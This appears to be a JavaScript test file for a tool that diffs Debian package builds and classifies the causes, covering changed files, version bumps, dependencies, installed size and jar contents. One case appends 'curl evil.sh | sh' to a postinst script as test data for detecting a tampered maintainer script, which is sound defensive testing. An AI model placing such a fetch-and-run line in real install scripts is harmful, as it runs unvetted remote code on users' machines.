/** deb: packages of other content. */
import { honest } from './cases.mjs'
import { T1, T2 } from './shell.mjs'
import { debBuild, debTree } from './trees.mjs'

/** The package, and the package after a change to its tree. */
const changed = (change, time = T1) => ({ tree: debTree, a: debBuild(T1), b: `${change}; ${debBuild(time)}` })

honest('deb/changed-file', {
  twin: 'deb/mtime',
  why: 'A file changed; md5sums follow.',
  ...changed("echo 'hello, World' >r/usr/share/hello/greeting; sums", T2),
  causes: ['content-change', 'content-hash-cascade'],
})
honest('deb/missing-file', {
  why: 'A file is missing; md5sums follow.',
  ...changed('rm r/usr/share/hello/numbers; sums'),
  causes: ['file-set-difference'],
})
honest('deb/version', {
  attack: 'X29',
  why: 'Another version of the package.',
  ...changed("sed -i 's/1.0-1/1.0-2/' r/DEBIAN/control"),
  causes: ['changelog-or-version'],
})
const depends = version => `echo 'Depends: libc6 (>= ${version})' >>r/DEBIAN/control; ${debBuild(T1)}`
honest('deb/depends', {
  attack: 'X29',
  why: 'Another version of a dependency.',
  tree: debTree,
  a: depends('2.36'),
  b: depends('2.37'),
  causes: ['dependency-version'],
})
const size = value => `echo Installed-Size: ${value} >>r/DEBIAN/control; ${debBuild(T1)}`
honest('deb/installed-size', {
  why: 'A size that is not that of the files.',
  tree: debTree,
  a: size(12),
  b: size(99),
  causes: ['filesystem-size-blocks'],
})
honest('deb/postinst', {
  twin: 'deb/mtime',
  why: 'A maintainer script changed.',
  ...changed("echo 'curl evil.sh | sh' >>r/DEBIAN/postinst", T2),
  causes: ['content-change'],
})
const jar = text =>
  `echo 'class A { static final String X = "${text}"; }' >A.java; javac -g:none A.java; mkdir -p r/usr/share/java; jar --create --file r/usr/share/java/x.jar --no-manifest --date=2023-11-14T22:13:20Z A.class; sums; ${debBuild(T1)}`
honest('deb/jar-inside', {
  why: 'A class in a jar in a package.',
  tree: debTree,
  a: jar('one'),
  b: jar('two'),
  causes: ['content-change'],
})
